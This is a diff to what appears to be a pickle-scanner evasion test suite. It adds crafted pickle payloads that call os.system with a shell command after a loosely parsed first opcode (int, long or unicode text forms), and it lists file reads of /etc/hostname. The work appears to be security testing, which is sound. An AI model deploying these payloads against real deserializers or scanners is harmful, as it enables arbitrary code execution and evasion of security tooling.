@@ -103,6 +103,13 @@ def payloads(marker, proto_hint=None):
         ("memo-overwrite-p0", memo_overwrite("os", "system", sh)),
         ("memo-overwrite-sp-p0", memo_overwrite("os", "system", sh, put2=b"p0 \n")),
         ("memo-overwrite-us-p0", memo_overwrite("os", "system", sh, put1=b"p10\n", put2=b"p1_0\n", get=b"g10\n")),
+        # a harmless first opcode whose text argument CPython reads (strtol/PyLong_FromString
+        # whitespace, NUL, 'L', raw-unicode-escape backslash runs), then the payload
+        ("int-space-p0", b"I 1\n0" + call0("os", "system", sh)),
+        ("int-nul-p0", b"I1\x00x\n0" + call0("os", "system", sh)),
+        ("long-space-l-p0", b"L1 L\n0" + call0("os", "system", sh)),
+        ("unicode-even-backslash-p0", b"V\\\\uZZZZ\n0" + call0("os", "system", sh)),
+        ("get-tab-p0", memo_text_forms("os", "system", sh, put=b"p\t0\n", get=b"g0\x00\n")),
         ("read-outside-p2", call2("builtins", "open", "/etc/hostname")),
         ("numpy-fromfile-p2", call2("numpy", "fromfile", "/etc/hostname")),
     ]
